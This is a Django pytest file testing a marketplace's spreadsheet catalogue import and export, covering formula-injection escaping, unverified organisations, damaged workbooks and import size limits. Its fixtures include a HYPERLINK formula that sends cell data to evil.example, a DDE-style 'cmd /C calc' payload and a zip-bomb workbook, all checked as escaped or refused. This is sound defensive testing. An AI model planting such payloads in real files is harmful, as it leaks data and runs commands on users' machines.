"""Issue 11: formula injection, unverified organisations, unreadable files and import limits.

Every workbook here is a real .xlsx written by openpyxl; damaged ones are made by
editing the zip's parts, as a broken export or a hostile upload would be.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from cms.models import DemandPage, TechnologyPage
from marketplace.audit.models import AuditEntry
from marketplace.curation.services import catalogue_export, catalogue_import
from marketplace.curation.workbook import (
    WorkbookError,
    build_table,
    escape_formula,
    unescape_formula,
)
from marketplace.organisations.models import Organisation
from marketplace.organisations.services import organisation_verify
from tests.factories import DemandPageFactory, OrganisationFactory, credit_code

from .workbooks import build, demand_row, verified_organisations, with_shared_strings

pytestmark = pytest.mark.django_db

CATALOGUE = "/admin/curation/catalogue/"
SHEET = "xl/worksheets/sheet1.xml"


def _state():
    return (
        DemandPage.objects.count(),
        TechnologyPage.objects.count(),
        Organisation.objects.count(),
        AuditEntry.objects.count(),
        list(DemandPage.objects.values_list("pk", "title", "live", "status").order_by("pk")),
    )


def _edit_part(buffer: io.BytesIO, name: str, edit) -> io.BytesIO:
    """A copy of the workbook whose part ``name`` is replaced by ``edit(old bytes)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            data = source.read(info.filename)
            zf.writestr(info.filename, edit(data) if info.filename == name else data)
    out.seek(0)
    return out


def _upload(client, buffer, name="目录.xlsx", **options):
    file = SimpleUploadedFile(name, buffer.getvalue())
    return client.post(CATALOGUE, {"kind": "demand", "file": file, **options})


# ---------------------------------------------------------------------------
# 5. Formula injection on export, formula cells on import

NASTY = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看详情")',
    "keywords": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_name": "-2+3",
    "current_state": "＝1+1 全角等号开头",
    "benchmark": "'引号开头的原文",
    "expected_outcome": "+86 0531 88888888",
}


def test_escape_is_reversible_and_covers_owasp_triggers():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1", "'x", "''"):
        escaped = escape_formula(text)
        assert escaped == "'" + text and unescape_formula(escaped) == text
    for text in ("普通文本", "1=1", "a-b", ""):
        assert escape_formula(text) == text and unescape_formula(text) == text
    # Only the apostrophe export adds is removed: a typed leading ' stays.
    assert unescape_formula("'普通") == "'普通"
    assert escape_formula(12) == 12 and escape_formula(None) is None


def test_export_writes_formula_text_as_escaped_strings_and_reimports_it(curator):
    page = DemandPageFactory(external_ref="EVIL-1", **NASTY)
    data = catalogue_export(kind="demand", actor=curator)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # data_only=False: formulas seen
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + NASTY["title"] in values and "''引号开头的原文" in values
    assert "'-2+3" in values and "'＝1+1 全角等号开头" in values
    report = catalogue_import(source=io.BytesIO(data), kind="demand", actor=curator)
    assert report.committed and report.updated == 1, report.errors
    page = DemandPage.objects.get(pk=page.pk)
    assert {name: getattr(page, name) for name in NASTY} == NASTY


def test_tables_escape_formula_text_too():
    data = build_table("揭榜", ["=表头", "金额"], [['=HYPERLINK("x")', 5, None], ["@cmd", 1.5, ""]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [c.value for c in sheet[2]] == ['\'=HYPERLINK("x")', 5, None]
    assert sheet["A3"].value == "'@cmd" and sheet["A1"].value == "'=表头"


def test_formula_cells_are_row_errors_naming_the_column_and_change_nothing(curator):
    verified_organisations("demand")
    rows = [demand_row(n) for n in range(3)]
    rows[0]["需求名称"] = "=A1&B1"
    rows[2]["预算下限（万元）"] = "=10*5"  # optional: used to read back empty and import
    rows[2]["研发现状"] = "=TODAY()"
    before = _state()
    report = catalogue_import(source=build("demand", rows), kind="demand", actor=curator)
    found = sorted((e.row, e.column) for e in report.errors)
    assert found == [(2, "需求名称"), (4, "研发现状"), (4, "预算下限（万元）")]
    assert all("公式" in e.message for e in report.errors)
    assert "=10*5" in " ".join(e.message for e in report.errors)
    assert not report.committed and _state() == before


def test_formula_cells_are_errors_in_partial_imports_too(curator):
    verified_organisations("demand")
    rows = [demand_row(n) for n in range(2)]
    rows[1]["研发现状"] = '=HYPERLINK("http://evil.example","x")'
    report = catalogue_import(
        source=build("demand", rows), kind="demand", actor=curator, partial=True
    )
    assert report.committed and report.created == 1
    assert [(e.row, e.column) for e in report.errors] == [(3, "研发现状")]
    assert not DemandPage.objects.filter(external_ref="JN-D-00001").exists()


# ---------------------------------------------------------------------------
# 6. Imported organisations are not verified; their listings are not published


def test_new_organisations_start_pending_and_their_listings_stay_drafts(client, curator):
    before_live = DemandPage.objects.live().count()
    report = catalogue_import(
        source=build("demand", [demand_row(n) for n in range(2)]),
        kind="demand",
        actor=curator,
        filename="d.xlsx",
    )
    assert report.committed and report.created == 2
    assert report.drafts == 2 and report.published == 0 and report.organisations_created == 2
    for page in DemandPage.objects.filter(external_ref__startswith="JN-D-"):
        assert not page.live and page.status == "draft" and page.has_unpublished_changes
        assert page.latest_revision_id and page.live_revision_id is None
        assert page.organisation.verification == "pending"
        assert page.organisation.verified_by is None and page.organisation.verified_at is None
    assert DemandPage.objects.live().count() == before_live
    assert "激光焊接变形控制技术需求1" not in client.get("/demands/").content.decode()
    created = AuditEntry.objects.filter(action="organisation.import_created")
    assert created.count() == 2 and created.first().details["file"] == "d.xlsx"
    assert not AuditEntry.objects.filter(action="organisation.import_verified").exists()
    assert AuditEntry.objects.get(action="catalogue.import").details["drafts"] == 2


def test_duplicate_of_a_rejected_organisation_is_flagged_in_report_and_queue(client, curator):
    rejected = OrganisationFactory(
        name="济南导入测试装备股份有限公司0",
        credit_code=credit_code(4242),
        verification=Organisation.Verification.REJECTED,
    )
    same_code = OrganisationFactory(
        name="历城某某精密机械有限公司", credit_code=credit_code(700_001, prefix="91370112")
    )
    client.force_login(curator)
    staged = _upload(client, build("demand", [demand_row(n) for n in range(3)])).context["staged"]
    response = client.post(staged.confirm_url)
    html = response.content.decode()
    assert response.status_code == 200 and "data-new-organisations" in html
    new = Organisation.objects.get(credit_code=credit_code(700_000))
    assert new.verification == "pending"
    assert f"/admin/organisations/inspect/{rejected.pk}/" in html and "未通过" in html
    assert f"/admin/organisations/inspect/{same_code.pk}/" in html
    assert "保存为草稿" in html and "已导入并发布" not in html
    # The verification queue flags the new organisation the same way.
    queue = client.get("/admin/organisations/", {"verification": "pending"}).content.decode()
    assert new.name in queue and "可能重复" in queue and rejected.name in queue
    assert "未通过" in queue
    details = AuditEntry.objects.get(action="organisation.import_created", object_id=str(new.pk))
    assert [d["id"] for d in details.details["possible_duplicates"]] == [rejected.pk]


def test_dry_run_says_which_listings_would_stay_drafts(curator):
    verified_organisations("demand", orgs=1)  # organisation 0 is verified, 1 and 2 are new
    rows = [demand_row(n, orgs=3) for n in range(3)]
    rows[0].update(
        {"需求单位": "济南导入测试装备有限公司0", "统一社会信用代码": credit_code(700_000)}
    )
    before = _state()
    report = catalogue_import(
        source=build("demand", rows), kind="demand", actor=curator, dry_run=True
    )
    assert report.ok and report.created == 3 and report.drafts == 2
    assert [o.credit_code for o in report.new_organisations] == [
        credit_code(700_001),
        credit_code(700_002),
    ]
    assert _state() == before


def test_existing_unverified_organisation_keeps_listings_as_drafts_with_a_warning(curator):
    OrganisationFactory(
        name="济南导入测试装备有限公司0",
        credit_code=credit_code(700_000),
        verification=Organisation.Verification.PENDING,
    )
    report = catalogue_import(source=build("demand", [demand_row(0)]), kind="demand", actor=curator)
    assert report.committed and report.drafts == 1 and report.organisations_created == 0
    assert not DemandPage.objects.get(external_ref="JN-D-00000").live
    assert any("待审核" in warning and "草稿" in warning for warning in report.warnings)


def test_live_listing_is_never_moved_to_an_unverified_organisation(curator):
    page = DemandPageFactory(external_ref="JN-D-00000")
    before = _state()
    report = catalogue_import(source=build("demand", [demand_row(0)]), kind="demand", actor=curator)
    assert [(e.row, e.column) for e in report.errors] == [(2, "统一社会信用代码")]
    assert not report.committed and _state() == before
    assert DemandPage.objects.get(pk=page.pk).organisation_id == page.organisation_id


def test_update_of_a_live_listing_of_an_unverified_organisation_is_saved_as_a_draft(curator):
    page = DemandPageFactory(external_ref="JN-D-00000", title="公开的标题")
    page.organisation.verification = Organisation.Verification.REJECTED
    page.organisation.save()
    row = {
        **demand_row(0),
        "需求单位": page.organisation.name,
        "统一社会信用代码": page.organisation.credit_code,
        "需求名称": "导入的新标题",
    }
    report = catalogue_import(source=build("demand", [row]), kind="demand", actor=curator)
    assert report.committed and report.updated == 1 and report.drafts == 1, report.errors
    page = DemandPage.objects.get(pk=page.pk)
    assert page.live and page.title == "公开的标题" and page.has_unpublished_changes
    assert page.get_latest_revision_as_object().title == "导入的新标题"


def test_drafts_publish_once_the_organisation_is_verified(curator):
    rows = [demand_row(n) for n in range(2)]
    catalogue_import(source=build("demand", rows), kind="demand", actor=curator)
    for organisation in Organisation.objects.filter(verification="pending"):
        organisation_verify(organisation=organisation, curator=curator, note="核实无误")
    # Either a curator publishes a draft in the admin ...
    first = DemandPage.objects.get(external_ref="JN-D-00000")
    first.get_latest_revision().publish(user=curator)
    first.refresh_from_db()
    assert first.live and first.status == "open"
    # ... or the same workbook is imported again.
    report = catalogue_import(source=build("demand", rows), kind="demand", actor=curator)
    assert report.committed and report.drafts == 0 and report.updated == 2
    assert DemandPage.objects.live().filter(external_ref__startswith="JN-D-").count() == 2
    assert DemandPage.objects.get(external_ref="JN-D-00001").status == "open"


# ---------------------------------------------------------------------------
# 7. Files that are not workbooks, or damaged ones: a clear error, nothing changed


def _broken_xml(data: bytes) -> bytes:
    return data[: len(data) // 2]  # cut in the middle of an element


def _shared_strings_workbook() -> io.BytesIO:
    buffer = with_shared_strings(build("demand", [demand_row(n) for n in range(3)]))
    assert "xl/sharedStrings.xml" in zipfile.ZipFile(buffer).namelist()
    return buffer


def test_workbook_with_shared_strings_imports(curator):
    verified_organisations("demand")
    report = catalogue_import(source=_shared_strings_workbook(), kind="demand", actor=curator)
    assert report.committed and report.created == 3, report.errors
    assert DemandPage.objects.get(external_ref="JN-D-00002").title.endswith("需求2")


@pytest.mark.parametrize(
    "part",
    [SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml"],
)
def test_admin_upload_with_broken_xml_is_a_form_error(client, curator, part):
    verified_organisations("demand")
    broken = _edit_part(_shared_strings_workbook(), part, _broken_xml)
    client.force_login(curator)
    before = _state()
    for options in ({"dry_run": "on"}, {}):
        response = _upload(client, broken, **options)
        assert response.status_code == 200
        assert "文件不是有效的 .xlsx 工作簿" in response.content.decode()
    assert _state() == before


def _not_a_workbook(tmp_path):
    text = tmp_path / "text.xlsx"
    text.write_text("外部编号,需求名称\nA-1,标题\n", encoding="utf-8")
    empty = tmp_path / "empty.xlsx"
    empty.write_bytes(b"")
    other_zip = tmp_path / "other.xlsx"
    with zipfile.ZipFile(other_zip, "w") as archive:
        archive.writestr("readme.txt", "不是工作簿")
    broken = tmp_path / "broken.xlsx"
    built = build("demand", [demand_row(n) for n in range(3)])
    broken.write_bytes(_edit_part(built, SHEET, _broken_xml).getvalue())
    return {
        text: "不是有效的 .xlsx",
        empty: "文件是空的",
        other_zip: "不是有效的 .xlsx",
        broken: "不是有效的 .xlsx",
    }


def test_command_reports_files_that_are_not_workbooks_without_traceback(tmp_path, curator):
    before = _state()
    for path, reason in _not_a_workbook(tmp_path).items():
        for options in (["--dry-run"], []):
            with pytest.raises(CommandError) as caught:
                call_command("import_catalogue", str(path), "--kind", "demand", *options)
            assert reason in str(caught.value) and path.name in str(caught.value)
    assert _state() == before


def test_admin_upload_of_files_that_are_not_workbooks(client, curator, tmp_path):
    client.force_login(curator)
    before = _state()
    for path, _reason in _not_a_workbook(tmp_path).items():
        response = _upload(client, io.BytesIO(path.read_bytes()))
        assert response.status_code == 200, path
        assert "errorlist" in response.content.decode() or "error-message" in (
            response.content.decode()
        )
    assert _state() == before


def test_rows_beyond_the_declared_dimension_are_read_not_dropped(curator):
    verified_organisations("demand")
    buffer = build("demand", [demand_row(n) for n in range(3)])
    # A tool that writes a wrong <dimension> (here: the header only) must not lose rows.
    lying = _edit_part(
        buffer,
        SHEET,
        lambda xml: xml.replace(b"<sheetViews>", b'<dimension ref="A1:W1"/><sheetViews>'),
    )
    assert b'ref="A1:W1"' in zipfile.ZipFile(lying).read(SHEET)
    report = catalogue_import(source=lying, kind="demand", actor=curator)
    assert report.committed and report.created == 3, report.errors


# ---------------------------------------------------------------------------
# 8. Limits: rows, file size, unzipped size, errors listed


def test_rows_over_the_cap_stop_reading_with_a_clear_error(curator, settings):
    settings.JIEBANG_IMPORT_MAX_ROWS = 5
    buffer = build("demand", [demand_row(n) for n in range(2000)])
    # The sheet is damaged near its end: reading must stop at the cap before reaching it.
    truncated = _edit_part(buffer, SHEET, lambda xml: xml[:-300])
    before = _state()
    with pytest.raises(WorkbookError) as caught:
        catalogue_import(source=truncated, kind="demand", actor=curator)
    message = " ".join(caught.value.messages)
    assert "5 行" in message and "第 7 行" in message
    assert _state() == before


def test_example_rows_and_exactly_the_cap_are_accepted(curator, settings):
    settings.JIEBANG_IMPORT_MAX_ROWS = 3
    verified_organisations("demand")
    rows = [{**demand_row(9), "外部编号": "示例-1"}] + [demand_row(n) for n in range(3)]
    report = catalogue_import(source=build("demand", rows), kind="demand", actor=curator)
    assert report.committed and report.created == 3 and report.skipped_examples == 1


def test_row_cap_in_admin_and_command(client, curator, settings, tmp_path):
    settings.JIEBANG_IMPORT_MAX_ROWS = 2
    buffer = build("demand", [demand_row(n) for n in range(3)])
    client.force_login(curator)
    before = _state()
    response = _upload(client, buffer)
    assert response.status_code == 200 and "2 行的导入上限" in response.content.decode()
    path = tmp_path / "many.xlsx"
    path.write_bytes(buffer.getvalue())
    with pytest.raises(CommandError, match="2 行的导入上限"):
        call_command("import_catalogue", str(path), "--kind", "demand")
    assert _state() == before


def test_file_size_cap_in_admin_and_command(client, curator, settings, tmp_path):
    buffer = build("demand", [demand_row(n) for n in range(3)])
    settings.JIEBANG_IMPORT_MAX_BYTES = len(buffer.getvalue()) - 1
    client.force_login(curator)
    before = _state()
    response = _upload(client, buffer)
    assert response.status_code == 200 and "超过导入上限" in response.content.decode()
    path = tmp_path / "big.xlsx"
    path.write_bytes(buffer.getvalue())
    with pytest.raises(CommandError, match="超过导入上限"):
        call_command("import_catalogue", str(path), "--kind", "demand")
    assert _state() == before


def test_zip_bomb_is_refused_before_parsing(client, curator, settings, tmp_path):
    settings.JIEBANG_IMPORT_MAX_UNZIPPED_BYTES = 1_000_000
    verified_organisations("demand")
    buffer = build("demand", [demand_row(n) for n in range(2)])
    # 5 MB of whitespace between rows is valid XML and deflates to a few kilobytes.
    bomb = _edit_part(
        buffer, SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * 5_000_000)
    )
    assert len(bomb.getvalue()) < 50_000
    client.force_login(curator)
    before = _state()
    response = _upload(client, bomb)
    assert response.status_code == 200 and "解压后" in response.content.decode()
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb.getvalue())
    with pytest.raises(CommandError, match="解压后"):
        call_command("import_catalogue", str(path), "--kind", "demand")
    assert _state() == before


def test_rows_past_excels_last_row_are_refused(curator):
    buffer = build("demand", [demand_row(0)])
    beyond = _edit_part(
        buffer,
        SHEET,
        lambda xml: xml.replace(b'<row r="2"', b'<row r="1048577"'),
    )
    assert b'<row r="1048577"' in zipfile.ZipFile(beyond).read(SHEET)
    with pytest.raises(WorkbookError):
        catalogue_import(source=beyond, kind="demand", actor=curator)


def _bad_rows(n):
    rows = [demand_row(i) for i in range(n)]
    for row in rows:
        row["产业链"] = "火星采矿"
    return rows


def test_result_page_lists_at_most_n_errors_with_the_total(client, curator, settings):
    settings.JIEBANG_IMPORT_MAX_ERRORS_SHOWN = 3
    client.force_login(curator)
    response = _upload(client, build("demand", _bad_rows(10)))
    html = response.content.decode()
    table = html.split("data-import-errors", 1)[1].split("</table>", 1)[0]
    assert table.count("<tr>") == 1 + 3  # header + three errors
    assert "发现 10 处错误" in html and "共 10 处错误，仅列出前 3 处" in html


def test_command_prints_at_most_n_errors_with_the_total(curator, settings, tmp_path, capsys):
    settings.JIEBANG_IMPORT_MAX_ERRORS_SHOWN = 3
    path = tmp_path / "bad.xlsx"
    path.write_bytes(build("demand", _bad_rows(10)).getvalue())
    with pytest.raises(CommandError, match="发现 10 处错误"):
        call_command("import_catalogue", str(path), "--kind", "demand")
    err = capsys.readouterr().err
    assert err.count("[产业链]") == 3 and "另有 7 处错误未列出（共 10 处）" in err
